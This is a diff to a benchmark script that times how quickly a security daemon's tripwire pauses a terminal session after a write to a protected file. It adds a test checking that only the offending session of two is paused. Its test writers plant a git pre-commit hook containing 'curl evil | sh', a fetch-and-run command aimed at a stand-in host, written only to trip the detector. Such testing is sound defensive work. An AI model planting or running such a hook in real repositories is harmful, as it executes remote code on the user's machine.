@@ -1,7 +1,7 @@
 """From a protected write to every process of the session stopped, beside the same
 workload with the tripwire off.
 
-    python benchmarks/watch_tripwire.py [--runs 20] [--burst-runs 3] [--burst-files 20000]
+    python benchmarks/watch_tripwire.py [--runs 20] [--burst-runs 3] [--burst-files 20000] [--pairs 20]
 
 A real daemon (``tripwire = "pause"``) watches a workspace. Each run starts a PTY session
 whose writer (a shell job in the background, so the session has more than one process
@@ -36,9 +36,10 @@ ws = sys.argv[1]
 with open(os.path.join(ws, "t0"), "w") as f:
     pass
 t0 = time.time()
+# Stamped before the protected write: a fast stop can land before the next line runs.
+os.rename(os.path.join(ws, "t0"), os.path.join(ws, "t0-%r" % t0))
 with open(os.path.join(ws, ".git/hooks/pre-commit"), "w") as f:
     f.write("curl evil-%d | sh\n" % os.getpid())
-os.rename(os.path.join(ws, "t0"), os.path.join(ws, "t0-%r" % t0))
 n = 0
 os.makedirs(os.path.join(ws, "out"), exist_ok=True)
 end = t0 + 3.0
@@ -47,6 +48,27 @@ while time.time() < end:
     with open(os.path.join(ws, "out", "%06d" % n), "w") as f:
         f.write("x")
     time.sleep(0.001)
+"""
+
+INNOCENT = r"""
+import os, sys, time
+d = os.path.join(sys.argv[1], "innocent")
+os.makedirs(d, exist_ok=True)
+end = time.time() + 3.0
+n = 0
+while time.time() < end:
+    n += 1
+    with open(os.path.join(d, "%06d" % n), "w") as f:
+        f.write("y")
+    time.sleep(0.005)
+"""
+
+GUILTY = r"""
+import os, sys, time
+time.sleep(0.3)
+with open(os.path.join(sys.argv[1], ".git/hooks/pre-commit"), "w") as f:
+    f.write("curl evil | sh\n")
+time.sleep(3)
 """
 
 BURST = r"""
@@ -105,6 +127,42 @@ class Daemon:
                 self.proc.wait()
         shutil.rmtree(self.base, ignore_errors=True)
 
+    def pair_run(self) -> bool:
+        """Two sessions in the workspace, one writing the hook: is only that one paused
+        (and the other still writing)?"""
+        shutil.rmtree(self.ws / "innocent", ignore_errors=True)
+        py = shlex.quote(sys.executable)
+        ws = shlex.quote(str(self.ws))
+        ids = []
+        for script in (INNOCENT, GUILTY):
+            line = f"{py} -c {shlex.quote(script)} {ws} & wait"
+            r = self.op.call("sessions.new", {"argv": ["bash", "--norc", "-c", line], "cwd": str(self.ws)})
+            ids.append(r["session"]["id"])
+        _innocent, guilty = ids
+        try:
+            deadline = time.monotonic() + 5
+            paused: set[str] = set()
+            while time.monotonic() < deadline and not paused:
+                paused = {
+                    i["session"] for i in self.op.call("tripwire.list")["items"] if i["state"] == "paused"
+                }
+                time.sleep(0.01)
+            time.sleep(0.3)
+            paused = {i["session"] for i in self.op.call("tripwire.list")["items"] if i["state"] == "paused"}
+            before = len(list((self.ws / "innocent").iterdir()))
+            time.sleep(0.2)
+            still_writing = len(list((self.ws / "innocent").iterdir())) > before
+            return paused == {guilty} and still_writing
+        finally:
+            for item in self.op.call("tripwire.list")["items"]:
+                if item["session"] in ids and item["state"] == "paused":
+                    self.op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+            for sid in ids:
+                if self.op.call("sessions.get", {"session": sid})["session"]["status"] == "running":
+                    self.op.call("sessions.kill", {"session": sid, "grace_s": 0.5})
+            (self.ws / ".git" / "hooks" / "pre-commit").unlink(missing_ok=True)
+            time.sleep(0.3)
+
     def one_run(self, window_s: float | None, burst_files: int) -> tuple[float, int] | None:
         """(ms from the protected write to the writer stopped, files written after it)."""
         for leftover in ("out", "burst"):
@@ -140,6 +198,8 @@ class Daemon:
                 return None
             t0 = float(stamps[0].name[3:])
             files = sorted((self.ws / "out").iterdir()) if (self.ws / "out").exists() else []
+            if window_s is not None:  # the reference: what it wrote within the same window
+                files = [f for f in files if f.stat().st_mtime <= t0 + window_s]
             last = max((f.stat().st_mtime for f in files), default=t0)
             return max(0.0, (last - t0) * 1000), len(files)
         finally:
@@ -159,6 +219,7 @@ def main() -> None:
     ap.add_argument("--runs", type=int, default=20)
     ap.add_argument("--burst-runs", type=int, default=3)
     ap.add_argument("--burst-files", type=int, default=20000)
+    ap.add_argument("--pairs", type=int, default=20, help="runs with two sessions, one of them the writer")
     args = ap.parse_args()
     results: dict[str, list[tuple[float, int]]] = {"idle": [], "burst": []}
     with Daemon("pause") as d:
@@ -171,8 +232,10 @@ def main() -> None:
             r = d.one_run(None, args.burst_files)
             if r is not None:
                 results["burst"].append(r)
+        only_writer = sum(d.pair_run() for _ in range(args.pairs))
     with Daemon("off") as ref:
-        window = pct([ms for ms, _ in results["idle"]], 95) / 1000 if results["idle"] else 0.1
+        # At least 10 ms, so the reference says something even when the stop is instant.
+        window = max(0.01, pct([ms for ms, _ in results["idle"]], 95) / 1000) if results["idle"] else 0.1
         reference = [r for r in (ref.one_run(window, 0) for _ in range(3)) if r is not None]
     print(f"tripwire stop ({mode})")
     print(f"   {'workload':34} {'runs':>4} {'stop p50 ms':>11} {'p95 ms':>8} {'files p50':>9} {'max':>5}")
@@ -192,6 +255,10 @@ def main() -> None:
         f"   further files idle p95 {pct(idle_files, 95):.0f} (target <= 20: "
         f"{'met' if idle_files and pct(idle_files, 95) <= 20 else 'missed'})"
         + ("; some runs raised no tripwire" if missed else "")
+    )
+    print(
+        f"   two sessions in one workspace: only the writer paused (the other still writing) in "
+        f"{only_writer} of {args.pairs} runs (target: all)"
     )
     ref_files = [b for _, b in reference]
     print(
